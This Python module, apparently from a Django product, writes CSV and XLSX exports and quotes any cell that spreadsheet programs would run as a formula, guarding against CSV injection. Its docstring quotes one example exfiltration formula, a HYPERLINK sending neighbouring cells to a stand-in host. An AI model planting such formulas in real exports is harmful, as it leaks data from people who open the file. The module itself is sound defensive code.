"""Every CSV and XLSX file the product writes is written through here, so that no cell of user text can
become a formula.

Excel, WPS and LibreOffice run a cell that begins with `=`, `+`, `-` or `@` as a formula (and some strip a
leading tab or carriage return first): a hazard titled `=HYPERLINK("http://x/?"&A1,"详情")` would otherwise
become a link that sends the neighbouring cells away when an official opens the ledger export ("CSV
injection", OWASP). Such text is written with a leading single quote, OWASP's recommendation, and is then
shown as the text it is. Real numbers, dates and times are written as what they are, never as text, so they
still sort and add up; a "-5" typed into a text field is text, and is quoted like any other.

Imports of our own sheets take the quote off again (`restored`), so an exported table of tasks re-imports
with its titles unchanged.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from collections.abc import Iterable, Iterator
from decimal import Decimal
from typing import IO, Any

from django.utils import timezone
from openpyxl import Workbook
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
QUOTE = "'"
NUMBERS = (int, float, Decimal)  # bool is an int: written as TRUE/FALSE in XLSX, True/False in CSV
CSV_DATETIME = "%Y-%m-%d %H:%M"  # local time to the minute, as the pages show it
SHEET_TITLE_MAX = 31  # Excel's limit
BOM = "\ufeff"  # Excel reads a CSV as UTF-8 (and shows Chinese) only with it


def neutralised(text: str) -> str:
    """The text, quoted when a spreadsheet program would run it as a formula."""
    return QUOTE + text if text.startswith(FORMULA_TRIGGERS) else text


def restored(text: str) -> str:
    """Text read back from a sheet we wrote: the quote `neutralised` added is taken off again."""
    return text[1:] if text.startswith(QUOTE) and text[1:].startswith(FORMULA_TRIGGERS) else text


def _local(value: dt.datetime) -> dt.datetime:
    return timezone.localtime(value).replace(tzinfo=None) if timezone.is_aware(value) else value


def csv_cell(value: Any) -> str:
    """One CSV field: numbers and dates as such, text (anything else, lazy translations too) neutralised."""
    if isinstance(value, str):
        return neutralised(value)
    if value is None:
        return ""
    if isinstance(value, NUMBERS):
        return str(value)
    if isinstance(value, dt.datetime):
        return _local(value).strftime(CSV_DATETIME)
    if isinstance(value, dt.date):
        return value.isoformat()
    return neutralised(str(value))


def xlsx_cell(value: Any) -> Any:
    """One XLSX cell value: numbers, dates and times stay typed (datetimes in local time: Excel has no time
    zones); text is neutralised and loses the control characters XLSX cannot hold (openpyxl would refuse
    the whole file)."""
    if value is None or isinstance(value, NUMBERS):
        return value
    if isinstance(value, dt.datetime):
        return _local(value)
    if isinstance(value, dt.date | dt.time):
        return value
    return neutralised(ILLEGAL_CHARACTERS_RE.sub("", str(value)))


class _Echo:
    """A file whose write returns the text: csv.writer's writerow then returns the line it wrote."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """The CSV file as lines, BOM first: streamable, and each field made safe by `csv_cell`."""
    writer = csv.writer(_Echo())
    yield BOM
    for row in rows:
        yield writer.writerow([csv_cell(value) for value in row])


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    return "".join(csv_lines(rows))


class SheetWriter:
    """One sheet of a `WorkbookWriter`; rows go in only through `append`, cell by cell made safe."""

    def __init__(self, sheet: Any) -> None:  # a Worksheet, or openpyxl's (private) WriteOnlyWorksheet
        self._sheet = sheet

    def append(self, row: Iterable[Any]) -> None:
        self._sheet.append([xlsx_cell(value) for value in row])


class WorkbookWriter:
    """An XLSX workbook to write. `write_only` streams rows to disk in constant memory (large exports)."""

    def __init__(self, *, write_only: bool = False) -> None:
        self._book = Workbook(write_only=write_only)
        for first in list(self._book.worksheets):  # a normal workbook starts with an empty sheet
            self._book.remove(first)

    def sheet(self, title: str) -> SheetWriter:
        return SheetWriter(self._book.create_sheet(title[:SHEET_TITLE_MAX]))

    def save(self, target: IO[bytes]) -> None:
        self._book.save(target)

    def to_bytes(self) -> bytes:
        buffer = io.BytesIO()
        self.save(buffer)
        return buffer.getvalue()


def xlsx_bytes(rows: Iterable[Iterable[Any]], *, title: str) -> bytes:
    """A one-sheet workbook of the rows, each cell made safe by `xlsx_cell`."""
    book = WorkbookWriter(write_only=True)
    sheet = book.sheet(title)
    for row in rows:
        sheet.append(row)
    return book.to_bytes()
